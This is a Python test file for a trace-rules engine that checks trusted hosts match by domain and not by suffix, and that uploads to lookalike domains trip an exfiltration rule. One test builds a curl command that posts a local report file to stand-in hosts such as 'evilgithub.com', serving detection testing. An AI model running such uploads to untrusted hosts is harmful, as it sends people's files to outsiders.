"""Trusted hosts match by domain, never by suffix: `github.com` trusts `api.github.com`, not
`evilgithub.com` (the issue's planted bug survived every test before these)."""

from __future__ import annotations

import pytest

from cctrace.rules.engine import DEFAULT_ALLOW_HOSTS
from cctrace.rules.schema import host_matcher

from .helpers import bash
from .test_engine import rule_ids


@pytest.mark.parametrize("host,trusted", [
    ("github.com", True), ("api.github.com", True), ("a.b.github.com", True),
    ("evilgithub.com", False), ("github.com.evil.net", False), ("githubxcom", False),
    ("xgithub.com", False), ("github.co", False), ("hub.com", False),
    ("corp.example", True), ("x.corp.example", True), ("evilcorp.example", False),
    ("only.sub", False), ("a.only.sub", True), ("a.b.only.sub", True),
    ("10.0.0.5", True), ("110.0.0.5", False), ("a.10.0.0.5", False), ("10.0.0.55", False),
])
def test_host_matcher(host, trusted):
    match = host_matcher(["github.com", " Corp.Example. ", "*.only.sub", "10.0.0.5", ""])
    assert match(host) is trusted


def test_no_pattern_trusts_nothing():
    assert host_matcher([])("github.com") is False
    assert host_matcher(["", "  "])("github.com") is False


def test_an_upload_to_a_lookalike_of_a_default_host_is_not_trusted():
    assert "github.com" in DEFAULT_ALLOW_HOSTS
    from cctrace.rules.engine import load_ruleset

    rs = load_ruleset()
    up = "curl -d @report.json https://{}/upload"
    assert "exfil.http_upload" in rule_ids([bash(up.format("evilgithub.com"))], rs)
    assert "exfil.http_upload" in rule_ids([bash(up.format("github.com.evil.net"))], rs)
    assert "exfil.http_upload" not in rule_ids([bash(up.format("uploads.github.com"))], rs)
